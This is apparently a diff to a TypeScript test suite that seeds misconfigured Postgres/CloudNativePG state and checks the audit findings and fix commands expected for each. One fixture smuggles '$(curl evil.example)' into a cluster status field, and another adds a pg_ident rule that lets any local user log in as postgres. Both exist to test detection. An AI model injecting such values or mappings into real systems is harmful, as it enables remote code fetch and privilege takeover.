@@ -1,5 +1,5 @@
 import { LOOK, REWRITE, REAPPLY, SQL, DESCRIBE, roleOf, refused, type Case } from "./case";
-import { live } from "./fixture";
+import { live, type World } from "./fixture";
 
 /** What can be wrong in Postgres, and with its Database objects. */
 export const postgresCases: Case[] = [
@@ -63,7 +63,7 @@ export const postgresCases: Case[] = [
     title: "roles that nobody manages",
     breaks: ({ catalogue }) => {
       catalogue!.roles.push(
-        live('it\'s "me"', { superuser: true, usedIn: ["agents", "postgres"] }),
+        live('it\'s "me"', { superuser: true, usedIn: ["agents"], hasSharedRights: true }),
         live("old", { login: false, validUntil: "2001-01-01T00:00:00Z", expired: true }),
       );
     },
@@ -73,9 +73,171 @@ export const postgresCases: Case[] = [
         "unmanagedRole",
         'role it\'s "me"',
         "(LOGIN, SUPERUSER) is in Postgres",
-        `-c 'DROP OWNED BY "it'\\''s ""me"""' -c 'DROP ROLE "it'\\''s ""me"""'`,
+        `${SQL} -d 'dbname='\\''agents'\\''' -c 'REASSIGN OWNED BY "it'\\''s ""me""" TO "agents"' -c 'DROP OWNED BY "it'\\''s ""me"""' && ${SQL} -c 'DROP ROLE "it'\\''s ""me"""'`,
       ],
       [null, "unmanagedRole", "role old", "VALID UNTIL 2001-01-01T00:00:00Z", `${SQL} -c 'DROP ROLE "old"'`],
+    ],
+  },
+  {
+    title: "a role that nobody manages, with something in databases that are no service's",
+    breaks: ({ catalogue }) => {
+      catalogue!.databases.push({ name: "theirs", owner: "legacy" });
+      catalogue!.roles.push(
+        live("legacy", { usedIn: ["agents", "postgres"], memberOf: ["agents"], grants: [{ role: "agents", grantor: "postgres" }] }),
+      );
+    },
+    finds: [
+      [
+        null,
+        "unmanagedRole",
+        "role legacy (LOGIN, member of agents)",
+        "what it has in postgres, theirs is no service's, and goes to nobody",
+        `${SQL} -c 'ALTER ROLE "legacy" NOLOGIN NOSUPERUSER NOCREATEROLE NOCREATEDB NOBYPASSRLS NOREPLICATION' -c 'REVOKE "agents" FROM "legacy" GRANTED BY "postgres" CASCADE'`,
+      ],
+    ],
+  },
+  {
+    title: "a role that nobody manages, where the owner of the service's database is a superuser by hand",
+    breaks: ({ catalogue }) => {
+      catalogue!.roles.push(live("old_owner", { usedIn: ["platform"] }));
+      roleOf({ catalogue } as World["facts"], "platform").superuser = true;
+    },
+    finds: [
+      ["platform", "role", "role platform", "SUPERUSER", LOOK],
+      [null, "unmanagedRole", "role old_owner", "what it has in platform is no service's", `ALTER ROLE "old_owner" NOLOGIN`],
+    ],
+  },
+  {
+    title: "a role that nobody manages, which owns a service's database",
+    breaks: ({ catalogue }) => {
+      catalogue!.roles.push(live("old_owner", { usedIn: ["agents"] }));
+      catalogue!.databases[1]!.owner = "old_owner";
+    },
+    finds: [
+      [
+        null,
+        "unmanagedRole",
+        "role old_owner",
+        "goes to the database's owner",
+        `${SQL} -c 'ALTER DATABASE "agents" OWNER TO "agents"' && `,
+      ],
+      ["agents", "database", "database agents", "belongs to old_owner", REAPPLY("databases", "agents")],
+    ],
+  },
+  {
+    title: "members of a service's role that nobody declares, directly and by way of others",
+    breaks: (facts) => {
+      roleOf(facts, "streaming_replica").memberOf = ["platform"];
+      roleOf(facts, "pg_monitor").memberOf = ["pg_read_all_settings", "agents"];
+      facts.catalogue!.roles.push(
+        live("spy", { memberOf: ["platform", "agents"] }),
+        live("middle", { login: false, memberOf: ["platform"] }),
+        live("cnpg_helper", { memberOf: ["middle"], superuser: true }),
+      );
+      facts.roleObjects.set("spy", { metadata: { name: "spy" }, spec: { name: "spy", inRoles: ["platform", "agents"] } });
+      facts.roleObjects.set("later", { metadata: { name: "later" }, spec: { name: "later", inRoles: ["agents"] } });
+    },
+    finds: [
+      ["agents", "foreignObject", "DatabaseRole later", "makes role later a member of agents", "databaseroles.postgresql.cnpg.io later"],
+      [
+        null,
+        "operatorRole",
+        "CloudNativePG's own role streaming_replica has membership of platform",
+        "does not take it back",
+        `REVOKE "platform" FROM "streaming_replica" CASCADE`,
+      ],
+      [
+        null,
+        "unmanagedRole",
+        "Postgres's own role pg_monitor is a member of agents",
+        "works with its rights",
+        `REVOKE "agents" FROM "pg_monitor" CASCADE`,
+      ],
+      [
+        null,
+        "unmanagedRole",
+        "role spy (LOGIN, member of agents, platform)",
+        "declared by DatabaseRole spy",
+        "databaseroles.postgresql.cnpg.io spy",
+      ],
+      [null, "unmanagedRole", "role middle (member of platform)", "nobody manages", `DROP ROLE "middle"`],
+      [null, "unmanagedRole", "role cnpg_helper (LOGIN, SUPERUSER, member of platform)", "nobody manages", `DROP ROLE "cnpg_helper"`],
+    ],
+  },
+  {
+    title: "a role that is another's, with the rights of a superuser or to all data",
+    breaks: ({ catalogue, roleObjects }) => {
+      catalogue!.roles.push(live("bi", { memberOf: ["pg_read_all_data"] }), live("dba", { memberOf: ["postgres"] }));
+      for (const name of ["bi", "dba"]) roleObjects.set(name, { metadata: { name }, spec: { name } });
+    },
+    finds: [
+      [null, "unmanagedRole", "role bi (LOGIN, with the rights of pg_read_all_data)", "no role needs that", "postgresql.cnpg.io bi"],
+      [null, "unmanagedRole", "role dba (LOGIN, with the rights of postgres)", "no role needs that", "postgresql.cnpg.io dba"],
+    ],
+  },
+  {
+    title: "objects of others about a service's role and database",
+    breaks: ({ roleObjects, databases }) => {
+      roleObjects.set("mine", { metadata: { name: "mine" }, spec: { name: "agents", login: true } });
+      databases.set("mine-too", { metadata: { name: "mine-too" }, spec: { name: "platform", owner: "spy" } });
+    },
+    finds: [
+      ["agents", "foreignObject", "DatabaseRole mine", "is about role agents; a role has one writer", "postgresql.cnpg.io mine"],
+      ["platform", "foreignObject", "Database mine-too", "is about the database platform", "databases.postgresql.cnpg.io mine-too"],
+    ],
+  },
+  {
+    title: "what everybody may in a database, and what sessions begin with",
+    breaks: ({ catalogue }) => {
+      catalogue!.databases[1]!.publicRights = ["CONNECT", "TEMPORARY"];
+      catalogue!.settings = [
+        { role: "platform_a", database: null, names: ["role"] },
+        { role: "agents", database: null, names: ["search_path", "statement_timeout"] },
+        { role: null, database: "platform", names: ["app.x", "TimeZone"] },
+        { role: "platform_b", database: "platform", names: ["role"] },
+        { role: "platform", database: null, names: ["search_path"] },
+        { role: null, database: null, names: ["local_preload_libraries"] },
+      ];
+    },
+    finds: [
+      ["agents", "settings", "sessions of role agents begin with search_path", "set by nobody", `ALTER ROLE "agents" RESET "search_path"`],
+      ["platform", "settings", "sessions of every role in the database platform", "app.x", `ALTER DATABASE "platform" RESET "app"."x"`],
+      [
+        "platform",
+        "settings",
+        "role platform_b in the database platform",
+        "begin with role",
+        `ALTER ROLE "platform_b" IN DATABASE "platform" RESET "role"`,
+      ],
+      [null, "settings", "sessions of every role begin with local_preload_libraries", "set by", `RESET "local_preload_libraries"`],
+      [
+        "agents",
+        "databaseRights",
+        "everybody has CONNECT and TEMPORARY on the database agents",
+        "its owner",
+        `REVOKE ALL ON DATABASE "agents" FROM PUBLIC`,
+      ],
+    ],
+  },
+  {
+    title: "that two services are told different things",
+    breaks: (facts) => (facts.disputed = { services: ["agents", "platform"], about: ["role cnpg_helper"] }),
+    finds: [[null, "catalogue", "one thing to agents and another to platform", "role cnpg_helper", "FROM pg_catalog.pg_roles"]],
+  },
+  {
+    title: "a Postgres in which a login makes others members of itself",
+    breaks: ({ catalogue }) => (catalogue!.version = 140_012),
+    finds: [[null, "cluster", "Postgres 14", "15 and later", "npm run up -- --stack dev"]],
+  },
+  {
+    title: "a primary that is none, and other ways in than the program's",
+    breaks: ({ cluster }) => {
+      cluster!.status.currentPrimary = "$(curl evil.example)";
+      Object.assign(cluster!.spec.postgresql!, { pg_ident: ["local /^(.*)$ postgres"] });
+    },
+    finds: [
+      [null, "cluster", "the status of Cluster pg names $(curl evil.example)", "none of its instances", DESCRIBE],
+      [null, "cluster", "Cluster pg has postgresql.pg_ident", "others log in by it", `{"spec":{"postgresql":{"pg_ident":null}}}`],
     ],
   },
   {
@@ -90,7 +252,7 @@ export const postgresCases: Case[] = [
         "unmanagedRole",
         "role graph",
         "(LOGIN, CREATEDB, REPLICATION) has more",
-        `${SQL} -c 'ALTER ROLE "graph" NOCREATEDB NOREPLICATION'`,
+        `${SQL} -c 'ALTER ROLE "graph" NOLOGIN NOCREATEDB NOREPLICATION PASSWORD NULL'`,
       ],
       [
         null,
@@ -161,7 +323,7 @@ export const postgresCases: Case[] = [
         undefined,
         "53300",
         "sessions",
-        `${SQL} -c 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '\\''agents'\\'' AND state = '\\''idle'\\'''`,
+        `${SQL} -c 'SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE usename = '\\''agents'\\'' AND state = '\\''idle'\\'''`,
       ],
       [undefined, "3D000", "Database agents declares agents", REAPPLY("databases", "agents")],
       [undefined, undefined, "the primary answers", DESCRIBE],
